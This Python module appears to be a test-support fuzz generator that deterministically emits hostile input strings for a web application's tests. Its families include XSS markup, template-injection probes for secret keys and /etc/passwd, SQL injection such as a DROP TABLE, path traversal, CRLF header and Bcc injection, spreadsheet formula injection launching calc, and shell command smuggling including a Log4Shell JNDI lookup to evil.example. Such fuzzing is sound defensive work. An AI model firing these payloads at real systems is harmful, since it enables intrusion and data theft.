"""Texts that nobody types by mistake, made by a generator that says the same each time.

tests/contracts/hostile.py holds some that are known to hurt; here are as many as one likes,
of the same families: varied, put together, made long. All are text (a lone surrogate is
one); `as_bytes` gives what a browser or a script would put on the wire.
"""

# ruff: noqa: E501

import random
from collections.abc import Callable, Iterator

# What a page would hold if it showed a text as markup, evaluated one, or split a header.
TAG = "<zq7"
SUM = "{{913*977}}", "892001"
SPLIT = "Zq-Split"

MARKUP = (
    f"{TAG} onload=alert(1)>", f"\">{TAG}>", f"'>{TAG}>", f"</textarea>{TAG}>", f"</title>{TAG}>",
    f"</script>{TAG}>", f"]]>{TAG}>", f"<svg>{TAG}>", f"<!--{TAG}>", f"`{TAG}>", f"&lt;{TAG}>", f"<a href=javascript:1>{TAG}>",
    f"</style>{TAG}>", f"<math>{TAG}>", f"{TAG}\0>", f"\u202e{TAG}>", f"{TAG}/onx=1//",
)  # fmt: skip
TEMPLATES = (
    SUM[0], "${913*977}", "#{913*977}", "<%=913*977%>", "{% debug %}", "{{request.META}}", "{{settings.SECRET_KEY}}",
    "{0.__class__}", "%(SECRET_KEY)s", "%n%n%s", "{self.password}", "{{''.__class__}}", "{% include '/etc/passwd' %}",
)  # fmt: skip
SQL = (
    "' OR '1'='1", "'; DROP TABLE accounts_user--", "1) OR (1=1", "' UNION SELECT sql FROM sqlite_master--", "\\'; --",
    "1; SELECT pg_sleep(9)--", "' || (SELECT 1) || '", "%' ESCAPE '\\", "0x31", "1 /*!50000*/", "$$;$$", "E'\\x00'", "\"\"\"",
)  # fmt: skip
FTS = (
    '"', '"a', 'a"b"', "*", "a*", "^a", "NEAR(a b, 5)", "a AND", "OR", "NOT a", "title:a", "{a b}:c", "-a", "a -\"", "(((", "+a",
    "a & | !", "<->", ":*", "a:*B", "\\:", "a''b", "col : a", "NEAR/", "AND OR NOT", "\"\"", "'a':1A", "!!", "a <2> b",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd",
    "\\\\evil\\share", "//evil.example/", "/\\evil.example", "https:evil.example", "http://[::1", "javascript:alert(1)", "..;/",
    "%00.pdf", "a/./b/../c", "data:text/html,x", "con", "aux.txt", ".htaccess", "%252e%252e/", "\u2215\u2215evil",
)  # fmt: skip
SPLITS = (
    f"a\r\n{SPLIT}: 1", f"a\n{SPLIT}: 1", f"a\r{SPLIT}: 1", f"a%0d%0a{SPLIT}: 1", f"a\u2028{SPLIT}: 1", f"a\x85{SPLIT}: 1",
    f"a\x0b{SPLIT}: 1", f"a\u560d\u560a{SPLIT}: 1", f"x@example.org\r\nBcc: e@evil.example\r\n{SPLIT}: 1",
)  # fmt: skip
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e309", "1e-999", "-0", "0x7f", "1_000", "１２３", "٣٤", "²", "Ⅷ", "一百", "1,5", "9" * 19,
    "9223372036854775808", "-9223372036854775809", "2147483648", "9" * 400, "-" + "9" * 60, "0" * 300 + "1", "1.0000000000000001",
    "4294967296", "18446744073709551616", "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "0001-01-01", "24:60",
)  # fmt: skip
UNSEEN = (
    "\0", "a\0b", "\ud800", "\udfff", "a\udc80", "\ud83d", "\ufeff", "\u200b", "\u200d\u200d", "\u202e", "\u2066a", "\u2069",
    "\u00ad", "\ue000", "\U0010ffff", "\ufffe", "\x1b[2J", "\x7f", "\x08", "\u3164", "\u2800", "\u180e", "\u034f", "\U000e0041",
)  # fmt: skip
SIGNS = (
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇨🇳", "Z" + "\u0351\u036b\u0343" * 40, "ﷺ" * 20, "𠮷𡈽", "İı", "ǆ", "ß", "ﬁ", "Å", "A\u030a", "㍿", "ｱﾞ",
    "１３８００００１２３４", "😀" * 50, "\u0e49" * 60, "ᄀ" * 30, "𝕬𝖇", "零〇",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    ";=1",
)
SHAPES = (
    "[]", "{}", "null", "true", '{"a":', '{"a":{"b":[1]}}', "[" * 500, '{"a":' * 300, "[[]]", '"', "__proto__", "constructor",
    "pk__in", "community__code", "None", "undefined", "on", "--", "()", "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///x'>",
)  # fmt: skip
SHELL = (
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; id",
    "%APPDATA%",
    "&& id",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP, "templates": TEMPLATES, "sql": SQL, "full text": FTS, "paths": PATHS, "splits": SPLITS, "numbers": NUMBERS,
    "unseen": UNSEEN, "signs": SIGNS, "formulas": FORMULAS, "shapes": SHAPES, "shell": SHELL,
}  # fmt: skip
SPACES = (" ", "\u3000", "\t", "\u00a0", "\u200b")
LENGTHS = (41, 121, 201, 256, 601, 1001, 4001, 65_537)


def _doubled(text: str, dice: random.Random) -> str:
    return text * dice.randint(2, 9)


def _long(text: str, dice: random.Random) -> str:
    length = dice.choice(LENGTHS)
    return (text * (length // max(1, len(text)) + 1))[:length]


def _joined(text: str, dice: random.Random) -> str:
    return text + dice.choice(FAMILIES[dice.choice(list(FAMILIES))])


def _spaced(text: str, dice: random.Random) -> str:
    return dice.choice(SPACES) + text + "\n"


def _cut(text: str, dice: random.Random) -> str:
    at = dice.randint(0, len(text))
    return text[:at] + dice.choice(UNSEEN) + text[at:]


def _wide(text: str, _dice: random.Random) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _quoted(text: str, _dice: random.Random) -> str:
    return "".join(f"%{byte:02x}" for byte in as_bytes(text)[:300])


def _mixed(text: str, dice: random.Random) -> str:
    letters = list(text)
    dice.shuffle(letters)
    return "".join(letters)


def _plain(text: str, _dice: random.Random) -> str:
    return text


CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    _plain, _plain, _doubled, _long, _joined, _joined, _spaced, _cut, _wide, _quoted, _mixed,
)  # fmt: skip


def hostile(seed: str) -> Iterator[str]:
    """Texts without end: each family in turn, changed by dice that know only the seed."""
    dice = random.Random(seed)  # noqa: S311 - to be repeated, not to be secret
    names = list(FAMILIES)
    while True:
        dice.shuffle(names)
        for name in names:
            text = dice.choice(FAMILIES[name])
            yield dice.choice(CHANGES)(text, dice)


def as_bytes(text: str) -> bytes:
    """UTF-8, in which a lone surrogate stands as a script would send it."""
    return text.encode("utf-8", "surrogatepass")


def quoted(text: str) -> str:
    """The text in an address or a form: percent-encoded."""
    return "".join(f"%{byte:02X}" for byte in as_bytes(text))
